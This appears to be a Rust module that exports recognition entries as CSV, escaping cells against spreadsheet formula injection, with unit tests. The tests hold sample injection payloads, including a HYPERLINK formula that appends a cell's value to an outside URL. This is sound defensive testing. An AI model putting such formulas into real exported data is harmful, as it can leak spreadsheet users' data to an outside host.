//! Export as comma-separated values.

use std::fmt::Write;

use super::entries::Entries;
use super::entry::Entry;

/// Longest integer that spreadsheets show digit by digit; they write longer ones as powers of ten.
const SHOWN_DIGITS: usize = 11;

/// Characters that begin a formula.
const FORMULA: &str = "=+-@＝＋－＠\t\r\n";

/// Header and one line per entry, oldest first. `format_time` gets milliseconds since 1970.
pub(super) fn csv(entries: &Entries, format_time: impl Fn(f64) -> String) -> String {
    // Without the byte order mark, Excel takes UTF-8 for the system's code page.
    let mut csv = String::from("\u{feff}time,number,confidence,label,mode,engine,file,strokes\r\n");
    for entry in entries.iter() {
        let Entry {
            number,
            confidence,
            drawing,
            time,
            mode,
            engine,
            file,
            label,
        } = entry;
        let confidence = confidence.map(|confidence| format!("{confidence:.4}"));
        csv.push_str(&time.map(&format_time).unwrap_or_default());
        csv.push(',');
        push_text(&mut csv, Some(number));
        csv.push_str(&confidence.unwrap_or_default());
        csv.push(',');
        for text in [label, mode, engine, file] {
            push_text(&mut csv, text.as_deref());
        }
        // Writing to a string cannot fail.
        let _ = write!(csv, "{}\r\n", drawing.strokes.len());
    }
    csv
}

/// Appends a text and a comma; it is quoted where RFC 4180 or another separator requires that.
fn push_text(csv: &mut String, text: Option<&str>) {
    let text = as_text(text.unwrap_or_default());
    if text.contains(['"', ',', ';', '\t', '\r', '\n']) {
        csv.push('"');
        csv.push_str(&text.replace('"', "\"\""));
        csv.push('"');
    } else {
        csv.push_str(&text);
    }
    csv.push(',');
}

/// Prepends an apostrophe where a spreadsheet would run the text as a formula or change its digits
/// (<https://owasp.org/www-community/attacks/CSV_Injection>).
fn as_text(text: &str) -> String {
    let mut safe = String::from(if is_mistaken(text) { "'" } else { "" });
    // Where the semicolon separates columns, quotes inside of a line do not protect it.
    let mut is_start = safe.is_empty();
    for char in text.chars() {
        if is_start && FORMULA.contains(char) {
            safe.push('\'');
        }
        safe.push(char);
        is_start = matches!(char, ';' | '\t' | '\r' | '\n') || (is_start && char == ' ');
    }
    safe
}

/// Whether a spreadsheet would read these digits as a date or as a number that looks different.
fn is_mistaken(text: &str) -> bool {
    let has_digits = text.bytes().any(|byte| byte.is_ascii_digit());
    let is_plain = text.bytes().all(|byte| byte.is_ascii_digit())
        && text.len() <= SHOWN_DIGITS
        && (text == "0" || !text.starts_with('0'));
    let is_numeric = |char: char| char.is_ascii_digit() || " +-.,:/eE".contains(char);
    has_digits && !is_plain && text.chars().all(is_numeric)
}

#[cfg(test)]
mod tests {
    use super::super::entries::tests::{entries, entry, labeled};
    use super::*;

    #[test]
    fn there_is_a_line_for_each_entry() {
        let complete = Entry {
            time: Some(5.0),
            mode: Some("Server".into()),
            file: Some("a \"b\", c.png".into()),
            ..labeled("20?6", "2026")
        };
        let csv = csv(&entries([entry("7"), complete]), |time| {
            format!("at {time}")
        });
        let csv = csv.strip_prefix('\u{feff}').expect("a byte order mark");
        let lines: Vec<&str> = csv.split_terminator("\r\n").collect();
        assert_eq!(
            lines[0],
            "time,number,confidence,label,mode,engine,file,strokes"
        );
        assert_eq!(lines[1], ",7,0.9000,,,,,0");
        assert_eq!(
            lines[2],
            "at 5,20?6,0.9000,2026,Server,,\"a \"\"b\"\", c.png\",0"
        );
        assert_eq!(lines.len(), 3);
    }

    /// Fields of the only entry's line, as a program or a spreadsheet parses them.
    fn fields(entry: Entry) -> Vec<String> {
        let csv = csv(&entries([entry]), |_| String::new());
        let line = csv.split_once("\r\n").expect("a header").1;
        let (mut fields, mut is_quoted) = (vec![String::new()], false);
        for char in line
            .trim_end_matches("\r\n")
            .replace("\"\"", "\u{1}")
            .chars()
        {
            let last = fields.last_mut().expect("a field");
            match char {
                '"' => is_quoted = !is_quoted,
                ',' if !is_quoted => fields.push(String::new()),
                '\u{1}' => last.push('"'),
                _ => last.push(char),
            }
        }
        fields
    }

    #[test]
    fn spreadsheets_neither_run_nor_change_a_text() {
        for (file, expected) in [
            ("=HYPERLINK(\"http://example.org/?\"&A1,\"open\").png", "'="),
            ("+1+1.png", "'+1+1.png"),
            ("-2+3.png", "'-2+3.png"),
            ("@SUM(1).png", "'@SUM(1).png"),
            ("\t=1+1", "'\t'=1+1"),
            ("\r=1", "'\r'=1"),
            (" =1", " '=1"),
            ("＝1+1", "'＝1+1"),
            ("a;=1+1.png", "a;'=1+1.png"),
            ("a\n@b", "a\n'@b"),
            ("1-2", "'1-2"),
            ("3/4", "'3/4"),
            ("12E5", "'12E5"),
            ("1.50", "'1.50"),
            ("Übung é ق.png", "Übung é ق.png"),
            ("a-b, \"c\".png", "a-b, \"c\".png"),
            ("scan 2026-01-02.png", "scan 2026-01-02.png"),
            ("", ""),
        ] {
            let mode = Some(file.into());
            let found = fields(Entry {
                file: mode.clone(),
                mode,
                ..entry("3")
            });
            assert!(found[6].starts_with(expected), "{file}: {found:?}");
            assert_eq!(found[6], found[4], "{file}");
            assert_eq!((found.len(), &*found[1]), (8, "3"), "{file}");
            assert_eq!(found[6].replace('\'', ""), file);
        }
    }

    #[test]
    fn leading_zeros_and_long_numbers_stay() {
        for (number, expected) in [
            ("0", "0"),
            ("7", "7"),
            ("12345678901", "12345678901"),
            ("007", "'007"),
            ("00", "'00"),
            ("123456789012", "'123456789012"),
            ("20?6", "20?6"),
        ] {
            let found = fields(Entry {
                label: Some(number.into()),
                ..entry(number)
            });
            assert_eq!([&*found[1], &*found[3]], [expected; 2], "{number}");
            assert_eq!(found[2], "0.9000");
        }
    }
}
